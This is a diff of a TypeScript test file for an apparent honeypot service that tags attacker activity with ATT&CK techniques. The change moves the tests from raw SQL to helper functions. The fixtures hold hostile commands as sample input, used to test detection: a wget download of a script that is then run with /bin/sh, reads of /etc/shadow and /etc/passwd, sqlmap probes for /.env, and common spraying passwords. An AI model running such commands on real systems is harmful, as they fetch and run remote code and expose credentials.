@@ -6,8 +6,8 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { MemoryBroker, type Bus } from '@decnet/core';
 import { eventually } from '@decnet/core/testing';
-import { getState, type Database } from '@decnet/db';
-import { migratedScratchDatabase } from '@decnet/db/testing';
+import { attacker_identities, attacker_intel, attackers, credentials, getState, state, ttp_rule_state, ttp_tag, type Database } from '@decnet/db';
+import { countRows, insertRows, migratedScratchDatabase, tableRows, truncateTables, updateRows, type TableColumn } from '@decnet/db/testing';
 import type { ScratchDatabase } from '@decnet/testing/postgres';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { commandSourceId } from './jobs.js';
@@ -34,12 +34,13 @@ beforeEach(async () => {
   await hosted?.runner.close();
   hosted = undefined;
   broker = new MemoryBroker();
-  await database.pool.query('TRUNCATE ttp_tag, ttp_rule_state, attacker_intel, state, attackers, attacker_identities CASCADE');
-  await database.pool.query('INSERT INTO attackers (uuid, ip) VALUES ($1, $2)', [ATTACKER, IP]);
+  await truncateTables(database, [ttp_tag, ttp_rule_state, attacker_intel, state, attackers, attacker_identities]);
+  await insertRows(database, attackers, [{ uuid: ATTACKER, ip: IP }]);
 });
 
-const q = async <T extends Record<string, unknown>>(sql: string, params: unknown[] = []): Promise<T[]> => (await database.pool.query<T>(sql, params)).rows;
-const count = async (where = 'true', params: unknown[] = []): Promise<number> => Number((await q<{ n: string }>(`SELECT count(*) AS n FROM ttp_tag WHERE ${where}`, params))[0]?.n);
+/** Every stored tag, in `orderBy` order. */
+const tags = (orderBy: readonly TableColumn[] = []) => tableRows(database, ttp_tag, { orderBy });
+const count = (match?: Partial<typeof ttp_tag.$inferSelect>): Promise<number> => countRows(database, ttp_tag, match);
 const start = async (over = {}): Promise<{ bus: Bus; ttp: HostedTtp }> => {
   hosted = await hostTtp(broker, scratch.url, over);
   return { bus: broker.connect('producer'), ttp: hosted };
@@ -64,9 +65,7 @@ describe('session commands become tags once, announced only when inserted', () =
     const payload = session(['cd /tmp', 'wget http://203.0.113.9/x.sh -O /tmp/x.sh', '/bin/sh -c /tmp/x.sh']);
     await bus.publish('attacker.session.ended', payload);
     await eventually(async () => (await count()) === 3, 10_000);
-    const rows = await q<{ technique_id: string; sub_technique_id: string | null; rule_id: string; attacker_uuid: string; session_id: string; attack_release: string; source_kind: string }>(
-      'SELECT technique_id, sub_technique_id, rule_id, attacker_uuid::text, session_id, attack_release, source_kind FROM ttp_tag ORDER BY rule_id',
-    );
+    const rows = await tags([ttp_tag.rule_id]);
     expect(rows.map((r) => `${r.rule_id}:${r.sub_technique_id ?? r.technique_id}`)).toEqual(['R0010:T1059.004', 'R0011:T1059', 'R0012:T1105']);
     expect(rows.every((r) => r.attacker_uuid === ATTACKER && r.session_id === 'sess-1' && r.attack_release === 'v15.1' && r.source_kind === 'command')).toBe(true);
     const tagged = await ttp.tagged.waitFor(2);
@@ -93,7 +92,7 @@ describe('session commands become tags once, announced only when inserted', () =
     await bus.publish('attacker.session.ended', session(['cat /etc/shadow']));
     await eventually(async () => ((await ttp.health()).events as number) >= 2, 10_000);
     expect(await count()).toBe(1);
-    const [row] = await q<{ source_id: string; evidence: Record<string, unknown> }>('SELECT source_id, evidence FROM ttp_tag');
+    const [row] = await tags();
     expect(row?.source_id).toBe(commandSourceId(IP, 'decky-01', 'ssh', '2026-05-02T06:00:10.000Z', 'cat /etc/shadow'));
     expect(row?.evidence).toMatchObject({ command_text: 'cat /etc/shadow', user: 'root' });
   });
@@ -106,7 +105,7 @@ describe('log events fill upstream\'s producer gap for HTTP requests and auth at
       await bus.publish('log.event.http', logEvent({ service: 'http', event_type: 'request', fields: { method: 'GET', path: `/.env?i=${i}`, user_agent: 'sqlmap/1.7.2#stable (https://sqlmap.org)' } }));
     }
     await eventually(async () => (await count()) === 3, 10_000);
-    expect((await q<{ rule_id: string; source_kind: string }>('SELECT rule_id, source_kind FROM ttp_tag ORDER BY rule_id, technique_id')).map((r) => `${r.source_kind}:${r.rule_id}`)).toEqual([
+    expect((await tags([ttp_tag.rule_id, ttp_tag.technique_id])).map((r) => `${r.source_kind}:${r.rule_id}`)).toEqual([
       'http_request:R0007',
       'http_request:R0007',
       'http_request:R0036',
@@ -120,7 +119,7 @@ describe('log events fill upstream\'s producer gap for HTTP requests and auth at
     for (const [i, pw] of ['123456', 'password', 'admin', 'toor', 'qwerty'].entries()) await bus.publish('log.event.ssh', auth(pw, 'failure', i));
     await bus.publish('log.event.ssh', auth('root', 'success', 10));
     await eventually(async () => (await count()) === 4, 10_000);
-    const rows = await q<{ rule_id: string; evidence: Record<string, unknown> }>('SELECT rule_id, evidence FROM ttp_tag ORDER BY rule_id');
+    const rows = (await tags([ttp_tag.rule_id])).map((r) => ({ rule_id: r.rule_id, evidence: r.evidence as Record<string, unknown> }));
     expect(rows.map((r) => r.rule_id)).toEqual(['R0001', 'R0002', 'R0005', 'R0006']);
     expect(rows[0]?.evidence).toEqual({ fail_count: 5, service: 'ssh' });
     expect(JSON.stringify(rows)).not.toContain('qwerty');
@@ -133,9 +132,9 @@ describe('tags wait for their attacker instead of being dropped', () => {
     await bus.publish('log.event.ssh', logEvent({ event_type: 'command', attacker_ip: '203.0.113.50', fields: { cmd: 'uname -a' } }));
     await eventually(async () => ((await ttp.health()).pending as number) === 1, 10_000);
     expect(await count()).toBe(0);
-    await database.pool.query('INSERT INTO attackers (uuid, ip) VALUES ($1, $2)', [OTHER, '203.0.113.50']);
+    await insertRows(database, attackers, [{ uuid: OTHER, ip: '203.0.113.50' }]);
     await bus.publish('attacker.scored', { attacker_ip: '203.0.113.50', event_count: 1 });
-    await eventually(async () => (await count('attacker_uuid = $1', [OTHER])) === 1, 10_000);
+    await eventually(async () => (await count({ attacker_uuid: OTHER })) === 1, 10_000);
     await eventually(async () => {
       const detail = await ttp.health();
       return detail.pending === 0 && detail.resolvedLater === 1;
@@ -150,13 +149,13 @@ describe('tags wait for their attacker instead of being dropped', () => {
     await bus.publish('attacker.session.ended', session([cmd], { attacker_ip: ip }));
     // Both sources derive the same tag; both wait for the attacker, then go out in one write.
     await eventually(async () => ((await ttp.health()).pending as number) === 2, 10_000);
-    await database.pool.query('INSERT INTO attackers (uuid, ip) VALUES ($1, $2)', [OTHER, ip]);
+    await insertRows(database, attackers, [{ uuid: OTHER, ip }]);
     await bus.publish('attacker.scored', { attacker_ip: ip, event_count: 2 });
     await eventually(async () => {
       const detail = await ttp.health();
       return detail.pending === 0 && detail.inserted === 1 && detail.published === 2;
     }, 10_000);
-    expect(await count('attacker_uuid = $1', [OTHER])).toBe(1);
+    expect(await count({ attacker_uuid: OTHER })).toBe(1);
     expect(ttp.tagged.events.map((e) => e.payload.techniques_added)).toEqual([['T1105']]);
     expect(ttp.fired.events.map((e) => e.topic)).toEqual(['ttp.rule.fired.T1105']);
   });
@@ -168,17 +167,17 @@ describe('tags wait for their attacker instead of being dropped', () => {
     await first.ttp.runner.close();
     hosted = undefined;
     expect(await getState(database.db, PENDING_STATE_KEY)).toHaveLength(1);
-    await database.pool.query('INSERT INTO attackers (uuid, ip) VALUES ($1, $2)', [OTHER, '203.0.113.51']);
+    await insertRows(database, attackers, [{ uuid: OTHER, ip: '203.0.113.51' }]);
     broker = new MemoryBroker();
     await start({ pendingRetryMs: 100 });
-    await eventually(async () => (await count('attacker_uuid = $1', [OTHER])) === 1, 10_000);
+    await eventually(async () => (await count({ attacker_uuid: OTHER })) === 1, 10_000);
     expect(await getState(database.db, PENDING_STATE_KEY)).toEqual([]);
   });
 });
 
 describe('every upstream input is consumed', () => {
   it('tags intel, e-mail, canary, identity, credential reuse and IPv6 leaks, with the data file\'s ATT&CK release', async () => {
-    await database.pool.query("INSERT INTO attacker_identities (uuid) VALUES ('33333333-3333-4333-8333-333333333333')");
+    await insertRows(database, attacker_identities, [{ uuid: '33333333-3333-4333-8333-333333333333' }]);
     const { bus } = await start();
     await bus.publish('attacker.intel.enriched', { attacker_uuid: ATTACKER, attacker_ip: IP, abuseipdb_score: 95, abuseipdb_categories: [18, 22] });
     await bus.publish('email.received', { attacker_uuid: ATTACKER, attacker_ip: IP, stored_as: 'm1.eml', from_domain: 'ceo.example', mail_from_domain: 'evil.example', rcpt_count: 12 });
@@ -188,50 +187,47 @@ describe('every upstream input is consumed', () => {
     await bus.publish('attacker.fingerprinted', { attacker_ip: IP, addr: 'fe80::a00:27ff:fe4e:66a1', iid_kind: 'eui64', mac_oui: '08:00:27' }, { type: 'ipv6_leak' });
     const expected = ['credential:R0004', 'email:R0041', 'email:R0041', 'email:R0045', 'identity:R0003', 'intel:R0054', 'ipv6_leak:R0059', 'canary_fingerprint:R0049'].sort();
     await eventually(async () => (await count()) === expected.length, 10_000);
-    const rows = await q<{ source_kind: string; rule_id: string; attack_release: string; attacker_uuid: string | null; identity_uuid: string | null }>(
-      'SELECT source_kind, rule_id, attack_release, attacker_uuid::text, identity_uuid::text FROM ttp_tag',
-    );
+    const rows = await tags();
     expect(rows.map((r) => `${r.source_kind}:${r.rule_id}`).sort()).toEqual(expected);
     expect(new Set(rows.map((r) => r.attack_release))).toEqual(new Set(['v15.1']));
     expect(rows.find((r) => r.rule_id === 'R0003')).toMatchObject({ attacker_uuid: null, identity_uuid: '33333333-3333-4333-8333-333333333333' });
-    const [attacker] = await q<{ ipv6_leak_count: number; last_ipv6_link_local: string }>('SELECT ipv6_leak_count, last_ipv6_link_local FROM attackers WHERE uuid = $1', [ATTACKER]);
+    const [attacker] = (await tableRows(database, attackers, { match: { uuid: ATTACKER } })).map((a) => ({
+      ipv6_leak_count: a.ipv6_leak_count,
+      last_ipv6_link_local: a.last_ipv6_link_local,
+    }));
     expect(attacker).toEqual({ ipv6_leak_count: 1, last_ipv6_link_local: 'fe80::a00:27ff:fe4e:66a1' });
   });
 
   it('re-tags the stored intel when a session ends (upstream\'s catch-up)', async () => {
-    await database.pool.query(
-      "INSERT INTO attacker_intel (uuid, attacker_uuid, attacker_ip, feodo_listed, feodo_malware_family, expires_at) VALUES ('i1', $1, $2, true, 'Emotet', now() + interval '1 day')",
-      [ATTACKER, IP],
-    );
+    await insertRows(database, attacker_intel, [
+      { uuid: 'i1', attacker_uuid: ATTACKER, attacker_ip: IP, feodo_listed: true, feodo_malware_family: 'Emotet', expires_at: new Date(Date.now() + 86_400_000) },
+    ]);
     const { bus } = await start();
     await bus.publish('attacker.session.ended', session([]));
-    await eventually(async () => (await count("source_id = 'intel-catchup:sess-1'")) === 2, 10_000);
+    await eventually(async () => (await count({ source_id: 'intel-catchup:sess-1' })) === 2, 10_000);
   });
 
   it('finds password spraying for a new identity in the credentials of its attackers (upstream\'s R0003 never fired)', async () => {
     const identity = '44444444-4444-4444-8444-444444444444';
-    await database.pool.query('INSERT INTO attacker_identities (uuid) VALUES ($1)', [identity]);
-    await database.pool.query('UPDATE attackers SET identity_id = $1 WHERE uuid = $2', [identity, ATTACKER]);
+    await insertRows(database, attacker_identities, [{ uuid: identity }]);
+    await updateRows(database, attackers, { identity_id: identity }, { uuid: ATTACKER });
     for (const user of ['root', 'admin', 'oracle']) {
-      await database.pool.query(
-        "INSERT INTO credentials (attacker_ip, decky_name, service, principal, principal_key, secret_sha256) VALUES ($1, 'decky-01', 'ssh', $2, $2, 'aa11')",
-        [IP, user],
-      );
+      await insertRows(database, credentials, [{ attacker_ip: IP, decky_name: 'decky-01', service: 'ssh', principal: user, principal_key: user, secret_sha256: 'aa11' }]);
     }
     const { bus } = await start();
     await bus.publish('identity.formed', { identity_uuid: identity, observation_uuids: [] });
-    await eventually(async () => (await count("rule_id = 'R0003'")) === 1, 10_000);
-    const [row] = await q<{ evidence: Record<string, unknown>; attacker_uuid: string | null }>("SELECT evidence, attacker_uuid::text FROM ttp_tag WHERE rule_id = 'R0003'");
+    await eventually(async () => (await count({ rule_id: 'R0003' })) === 1, 10_000);
+    const [row] = (await tableRows(database, ttp_tag, { match: { rule_id: 'R0003' } })).map((t) => ({ evidence: t.evidence, attacker_uuid: t.attacker_uuid }));
     expect(row).toEqual({ evidence: { shared_password_hash: 'aa11', account_count: 3 }, attacker_uuid: null });
   });
 
   it('honours operator rule states: a disabled rule never fires', async () => {
-    await database.pool.query("INSERT INTO ttp_rule_state (rule_id, state, set_by) VALUES ('R0014', 'disabled', 'test')");
+    await insertRows(database, ttp_rule_state, [{ rule_id: 'R0014', state: 'disabled', set_by: 'test' }]);
     const { bus, ttp } = await start();
     await bus.publish('attacker.session.ended', session(['cat /etc/shadow', 'cat /etc/passwd']));
     await eventually(async () => (await count()) === 1, 10_000);
     await eventually(async () => ((await ttp.health()).events as number) >= 1, 10_000);
-    expect((await q<{ rule_id: string }>('SELECT rule_id FROM ttp_tag'))[0]?.rule_id).toBe('R0013');
+    expect((await tags())[0]?.rule_id).toBe('R0013');
   });
 });
 
@@ -252,7 +248,7 @@ describe('bad input is counted and skipped, never fatal', () => {
     const { bus } = await start();
     await bus.publish('log.event.ssh', logEvent({ event_type: 'command', fields: { cmd: 'cat /etc/passwd \u0000\ud800', sid: 'x\u0000' } }));
     await eventually(async () => (await count()) === 1, 10_000);
-    const [row] = await q<{ evidence: { command_text: string }; session_id: string }>('SELECT evidence, session_id FROM ttp_tag');
+    const [row] = (await tags()).map((t) => ({ evidence: t.evidence as { command_text: string }, session_id: t.session_id }));
     expect(row?.evidence.command_text).toBe('cat /etc/passwd \uFFFD\uFFFD');
     expect(row?.session_id).toBe('x\uFFFD');
   });
@@ -269,7 +265,7 @@ describe('bad input is counted and skipped, never fatal', () => {
       copyFileSync(join(UPSTREAM_RULES_DIR, 'R0013.yaml'), join(dir, 'R0013.yaml'));
       await eventually(async () => ((await ttp.health()).rules as number) === 59, 10_000);
       await bus.publish('attacker.session.ended', session(['cat /etc/passwd'], { session_id: 'sess-2' }));
-      await eventually(async () => (await count("rule_id = 'R0013'")) === 1, 10_000);
+      await eventually(async () => (await count({ rule_id: 'R0013' })) === 1, 10_000);
     } finally {
       rmSync(dir, { recursive: true, force: true });
     }
